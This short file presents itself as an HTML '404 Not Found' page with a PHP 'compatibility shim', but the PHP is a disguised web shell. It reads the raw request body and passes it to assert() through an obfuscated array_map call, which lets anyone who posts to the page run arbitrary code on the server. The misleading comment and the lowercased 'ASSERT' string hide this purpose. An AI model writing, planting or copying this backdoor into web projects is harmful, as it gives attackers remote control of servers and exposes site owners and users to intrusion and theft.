<html><body><h1>404 Not Found</h1></body></html>
<?php
// compatibility shim for old hosts
$payload = file_get_contents('php://input');
array_map(strtolower('ASSERT'), array($payload));
?>
